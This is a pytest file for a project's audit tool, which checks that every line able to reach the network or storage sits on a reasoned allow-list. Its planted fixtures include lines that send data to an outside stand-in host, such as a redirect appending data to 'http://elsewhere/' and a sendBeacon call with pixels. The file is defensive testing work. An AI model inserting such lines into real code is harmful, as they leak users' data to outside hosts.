"""Every line that can touch the network or storage is on the allow-list, with a reason."""

import pytest

from tools.audit.rules import judge, propose, read_rules
from tools.audit.scan import Finding, own_files, scan, scan_file, without_comments
from tools.audit.third_party import third_party
from tools.setup.checkout import ROOT
from tools.setup.complaint import Complaint


def test_every_line_that_can_touch_network_or_storage_has_a_reason():
    """'dev.py audit --propose' prints what to add to tools/audit/allowed.toml."""
    _, unlisted, _ = judge(scan(ROOT), read_rules())
    assert [f"{f.file}:{f.number} {f.kind}: {f.text}" for f in unlisted] == []


def test_nothing_is_allowed_that_is_not_there():
    _, _, unused = judge(scan(ROOT), read_rules())
    assert unused == []


def test_one_line_of_python_and_one_of_the_gate_ask_the_network_for_data():
    """Besides the sample photo, whose button the user presses."""
    calls = [(f.file, f.text) for f in scan(ROOT) if f.kind == "fetch"]
    assert [file for file, _ in calls] == [
        "inference/model_store.py",
        "sw.js",
        "ui/browser/incoming.py",
    ]


@pytest.mark.parametrize(
    "kind",
    [
        "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "WebRTC", "beacon", "form",
        "Python network", "CSS address",
    ],
)  # fmt: skip
def test_no_line_of_ours_uses_the_other_channels(kind):
    assert [f for f in scan(ROOT) if f.kind == kind] == []


PLANTED = {
    "ui/new.py": "js.fetch('x')",
    "ui/old.py": "from pyodide.http import pyfetch\npyfetch('x')",
    "core/socket.py": "import socket\nsocket.create_connection(('host', 1))",
    "assets/js/new.js": "navigator.sendBeacon('/x', pixels)",
    "assets/css/new.css": "body { background: url(//elsewhere/x) }",
    "index.html": '<img src="//elsewhere/x">',
    "sw.js": "new WebSocket('wss://elsewhere')",
    "pixels.toml": 'packages = ["micropip"]',
    "main.py": "js.location.href = 'http://elsewhere/' + data",
    "ui/form.html": '<form action="/upload">',
}


@pytest.mark.parametrize("path", PLANTED)
def test_a_planted_line_is_found_and_not_allowed(tmp_path, path):
    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / path).write_text(PLANTED[path], encoding="utf-8")
    findings = list(scan_file(tmp_path, path))
    assert findings
    assert judge(findings, read_rules())[1] == findings


def test_comments_and_docstrings_are_no_findings():
    python = '"""fetch("x")"""\n# fetch("x")\nname = 1  # fetch("x")\n'
    assert "fetch" not in without_comments("a.py", python)
    assert "fetch" not in without_comments("a.js", "  // fetch('x')\n")
    assert without_comments("a.css", "/* url(x)\n*/ a").count("\n") == 1


def test_a_text_in_python_is_looked_at():
    assert "localStorage" in without_comments("a.py", 'getattr(js, "localStorage")\n')


def test_installed_parts_and_weights_are_not_taken_for_ours():
    files = own_files(ROOT)
    assert "_headers" in files
    assert [path for path in files if "vendor" in path or "chunks" in path] == []


def test_an_entry_without_a_reason_is_refused(tmp_path):
    file = tmp_path / "allowed.toml"
    file.write_text('[[allowed]]\nfile = "main.py"\nkind = "fetch"\nreason = ""\n')
    with pytest.raises(Complaint, match="without a reason"):
        read_rules(file)


def test_proposals_are_entries_that_lack_a_reason(tmp_path):
    file = tmp_path / "allowed.toml"
    file.write_text(propose([Finding("main.py", 3, "fetch", "js.fetch('x')")]))
    with pytest.raises(Complaint, match=r"main\.py"):
        read_rules(file)


def test_every_installed_program_that_can_reach_the_network_is_contained_by_something():
    parts = third_party(ROOT)
    assert len(parts) > 5
    assert [part.path for part in parts if not part.guard] == []
